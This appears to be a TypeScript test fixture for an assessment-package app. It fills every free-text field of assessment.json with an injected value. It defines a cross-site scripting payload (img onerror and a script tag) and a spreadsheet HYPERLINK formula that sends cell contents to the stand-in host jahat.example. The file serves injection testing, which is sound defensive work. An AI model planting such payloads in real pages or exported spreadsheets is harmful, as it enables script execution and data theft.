import { assessmentJson, type PackageContent } from "#core/exchange/package-entries.ts";

/** Code wherever texts are taken for HTML; sets `hostile` of the window when it runs. */
export const HTML = `"><img src=x onerror="window.hostile=1"><script>window.hostile=1</script>`;
export const FORMULA = `=HYPERLINK("https://jahat.example/?"&A1;"klik")`;

/** Whatever a person writes freely, by the names that it has in `assessment.json`. */
const FREE_TEXTS = new Set([
  "institution",
  "agency",
  "label",
  "facts",
  "analysis",
  "privateNotes",
  "serviceName",
  "title",
  "name",
  "pages",
  "article",
  "note",
  "by",
  "from",
  "to",
  "app",
  "version",
]);

/** The text of the content's `assessment.json` with every free text in it made into this one, which has to fit the shortest. */
export function withEveryText(content: PackageContent, text: string): string {
  const changed: unknown = JSON.parse(assessmentJson(content), (key, value: unknown) => {
    const isDocumentNumber = key === "number" && typeof value === "string";
    return (FREE_TEXTS.has(key) && typeof value === "string") || isDocumentNumber ? text : value;
  });
  return JSON.stringify(changed, null, 2);
}
